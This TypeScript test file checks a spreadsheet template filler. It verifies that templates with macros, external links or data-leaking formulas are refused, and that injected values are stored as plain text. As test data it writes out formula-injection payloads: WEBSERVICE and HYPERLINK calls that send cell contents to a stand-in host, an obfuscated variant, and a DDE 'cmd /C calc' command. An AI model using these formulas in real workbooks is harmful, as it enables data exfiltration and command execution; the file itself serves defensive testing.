import { strFromU8, strToU8, unzipSync, zipSync } from 'fflate'
import { describe, expect, it } from 'vitest'
import { fillSheet } from './fill-sheet.ts'
import { openSheets, writeWorkbookOf } from './workbook.ts'

const VALUES = new Map([
  ['legal-name', 'Elira Marku'],
  ['born', '23 May 2014'],
])
const plain = unzipSync(await writeWorkbookOf('Sheet', [['Name: {{legal-name}}', '{{ BORN }}', 'left as it is']]))

/** The sheet with other parts, or with words of a part exchanged. */
function template(
  more: Readonly<Record<string, string>> = {},
  change?: (xml: string, name: string) => string,
): Uint8Array {
  const parts = Object.entries(plain).map(([name, bytes]) => [
    name,
    change && name.endsWith('.xml') ? strToU8(change(strFromU8(bytes), name)) : bytes,
  ])
  const added = Object.entries(more).map(([name, text]) => [name, strToU8(text)])
  return zipSync(Object.fromEntries([...parts, ...added]) as Record<string, Uint8Array>)
}
const inSheet = (add: string) =>
  template({}, (xml, name) => (name.includes('worksheets/') ? xml.replace('</sheetData>', `</sheetData>${add}`) : xml))
const formula = (text: string) =>
  template({}, (xml, name) =>
    name.includes('worksheets/')
      ? xml.replace('</sheetData>', `<row r="9"><c r="A9"><f>${text}</f></c></row></sheetData>`)
      : xml,
  )

async function cells(bytes: Uint8Array<ArrayBuffer>) {
  const opened = await openSheets(bytes)
  return opened.ok ? opened.value.sheets[0]?.rows[0] : opened.code
}
const filled = async (bytes: Uint8Array, values: ReadonlyMap<string, string> = VALUES) => {
  const made = fillSheet(bytes, values)
  return made.ok ? cells(made.value.bytes) : made
}

describe('a template is refused', () => {
  it('where it names a field that nothing is given for, by its name, and nothing is filled', async () => {
    const bytes = await writeWorkbookOf('Sheet', [['{{legal-name}}', '{{origins}}', '{{Father}}']])
    expect(fillSheet(bytes, VALUES)).toEqual({
      ok: false,
      code: 'no-such-field',
      detail: { names: ['origins', 'father'] },
    })
  })

  it('where no cell names a field, and where it is no workbook', async () => {
    expect(fillSheet(await writeWorkbookOf('Sheet', [['Name']]), VALUES)).toMatchObject({ code: 'no-fields' })
    expect(fillSheet(strToU8('{{legal-name}}'), VALUES)).toMatchObject({ code: 'not-a-workbook' })
    expect(fillSheet(zipSync({ 'word/document.xml': strToU8('<a/>') }), VALUES)).toMatchObject({
      code: 'not-a-workbook',
    })
  })

  it('where a field stands in a formula or a header, which nobody sees filled', () => {
    expect(fillSheet(formula('"{{born}}"'), VALUES)).toMatchObject({ code: 'field-elsewhere' })
    const header = inSheet('<headerFooter><oddHeader>{{born}}</oddHeader></headerFooter>')
    expect(fillSheet(header, VALUES)).toMatchObject({ code: 'field-elsewhere' })
  })

  it.each([
    ['with macros', template({ 'xl/vbaProject.bin': 'x' })],
    ['with a link to another workbook', template({ 'xl/externalLinks/externalLink1.xml': '<a/>' })],
    ['with a connection', template({ 'xl/connections.xml': '<connections/>' })],
    ['with an embedded file', template({ 'xl/embeddings/oleObject1.bin': 'x' })],
    [
      'with a picture that is fetched',
      template({
        'xl/worksheets/_rels/sheet9.xml.rels':
          '<Relationships><Relationship Id="r" Type="http://x/image" Target="http://x/" TargetMode="External"/></Relationships>',
      }),
    ],
    ['with XML that no spreadsheet can read', template({ 'xl/comments1.xml': '<a>' })],
  ])('%s', (_, bytes) => {
    expect(fillSheet(bytes, VALUES)).toMatchObject({ ok: false, code: 'reaches-out' })
  })

  it('with a formula that could send out what is filled in, however it is written', () => {
    for (const text of [
      'WEBSERVICE("http://x/"&amp;A1)',
      '&#87;EBSERVICE("http://x/"&amp;A1)',
      'HYPERLINK("http://x/"&amp;A1)',
      "cmd|' /C calc'!A0",
      "'[1]Sheet'!A1",
    ])
      expect(fillSheet(formula(text), VALUES), text).toMatchObject({ code: 'reaches-out' })
    expect(fillSheet(formula('LEN(A1)&amp;"x"'), VALUES)).toMatchObject({ ok: true })
  })
})

describe('a template', () => {
  it('is filled where its cells name a field, and left as it is elsewhere', async () => {
    expect(await filled(template())).toEqual(['Name: Elira Marku', '23 May 2014', 'left as it is'])
    expect(fillSheet(template(), VALUES)).toMatchObject({ value: { fields: ['legal-name', 'born'] } })
  })

  it('is filled with texts alone: no formula, no markup, no code of a character, no other field', async () => {
    for (const value of [
      '=HYPERLINK("http://x")',
      '+1',
      '@SUM(1)',
      '</t></si><f>1</f>',
      '<b>&amp;</b> & co',
      '{{born}}',
      '_x003D_1',
      '$& $1',
    ]) {
      const made = fillSheet(template(), new Map([...VALUES, ['legal-name', value]]))
      if (!made.ok) expect.unreachable(made.code)
      expect(await cells(made.value.bytes), value).toEqual([`Name: ${value}`, '23 May 2014', 'left as it is'])
      for (const part of Object.values(unzipSync(made.value.bytes))) expect(strFromU8(part)).not.toContain('<f>')
    }
    const hidden = new Map([...VALUES, ['legal-name', 'El\u0000i\u202era']])
    expect(await filled(template(), hidden)).toEqual(['Name: Elira', '23 May 2014', 'left as it is'])
  })

  it('is filled where the name of a field is bold in part', async () => {
    const bold = template({}, (xml) =>
      xml
        .replace('{{legal-name}}', '{{legal-</t></r><r><rPr><b/></rPr><t>name}}')
        .replace(/<(si|is)><t([^>]*)>([^<]*)<\/t><\/r>(.*?)<\/t><\/\1>/, '<$1><r><t$2>$3</t></r>$4</t></r></$1>'),
    )
    expect(await filled(bold)).toEqual(['Name: Elira Marku', '23 May 2014', 'left as it is'])
  })
})
